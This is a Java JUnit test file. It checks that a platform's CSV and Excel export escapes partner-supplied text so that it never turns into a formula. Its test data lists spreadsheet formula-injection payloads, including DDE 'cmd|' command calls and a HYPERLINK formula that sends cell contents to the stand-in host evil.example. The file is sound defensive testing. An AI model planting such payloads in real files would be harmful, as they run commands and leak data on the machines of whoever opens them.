package org.handsel.platform;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipFile;
import org.dhatim.fastexcel.Workbook;
import org.dhatim.fastexcel.reader.Cell;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/// What a partner wrote never becomes a formula in a table that somebody opens.
class CellsTest {
  @TempDir Path folder;

  static Stream<String> dangerous() {
    return Stream.of(
        "=cmd|'/c calc'!A1",
        "=HYPERLINK(\"https://evil.example/\"&A1,\"open\")",
        "+1+1",
        "-1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "|calc",
        "%0A=1+1",
        "\t=1+1",
        "\tplain",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00A0=1+1",
        "\uFF1D1+1",
        "\uFF201",
        "a,b\r\n=1+1",
        "say \"=1\"");
  }

  @ParameterizedTest
  @MethodSource("dangerous")
  void cellOfCsvBeginsNoFormulaAndKeepsItsText(String text) {
    String row = Csv.row(List.of("before", text, "after"));
    String cell = row.substring("before,".length(), row.length() - ",after".length());
    String read =
        cell.startsWith("\"") ? cell.substring(1, cell.length() - 1).replace("\"\"", "\"") : cell;
    assertThat(read).isIn(text, "'" + text);
    assertThat(read.strip()).doesNotStartWith("=");
    assertThat(read.charAt(0)).isNotIn('=', '+', '-', '@', '|', '%', '\t', '\r', '\n', '\uFF1D');
  }

  @Test
  void numbersAndPlainTextStayAsTheyAre() {
    assertThat(Csv.row(List.of("plain", "-12.5", "7", "a,b", "say \"x\"", "O'Neil = 1")))
        .isEqualTo("plain,-12.5,7,\"a,b\",\"say \"\"x\"\"\",O'Neil = 1");
  }

  @ParameterizedTest
  @MethodSource("dangerous")
  void cellOfWorkbookIsText(String text) throws IOException {
    byte[] bytes = workbook(text);
    try (ReadableWorkbook read = new ReadableWorkbook(new ByteArrayInputStream(bytes))) {
      Cell cell = read.getFirstSheet().read().getFirst().getCell(0);
      assertThat(cell.getType()).isEqualTo(CellType.STRING);
      assertThat(cell.getText().strip()).isEqualTo(text.strip());
    }
    assertThat(sheet(bytes)).doesNotContain("<f>", "<f ");
  }

  @Test
  void numbersBecomeNumbersAndLongTextsSayThatTheyWereCut() throws IOException {
    try (ReadableWorkbook read =
        new ReadableWorkbook(new ByteArrayInputStream(workbook("-12.5")))) {
      assertThat(read.getFirstSheet().read().getFirst().getCell(0).getType())
          .isEqualTo(CellType.NUMBER);
    }
    try (ReadableWorkbook read =
        new ReadableWorkbook(new ByteArrayInputStream(workbook("x".repeat(40_000))))) {
      assertThat(read.getFirstSheet().read().getFirst().getCell(0).getText())
          .hasSize(32_001)
          .endsWith("…");
    }
  }

  private static byte[] workbook(String text) throws IOException {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    try (Workbook workbook = new Workbook(out, "Handsel", "1.0")) {
      Sheets.value(workbook.newWorksheet("one"), 0, 0, text);
    }
    return out.toByteArray();
  }

  private String sheet(byte[] workbook) throws IOException {
    Path file = Files.write(folder.resolve("one.xlsx"), workbook);
    try (ZipFile zip = new ZipFile(file.toFile())) {
      ZipEntry sheet = zip.getEntry("xl/worksheets/sheet1.xml");
      return new String(zip.getInputStream(sheet).readAllBytes(), StandardCharsets.UTF_8);
    }
  }
}
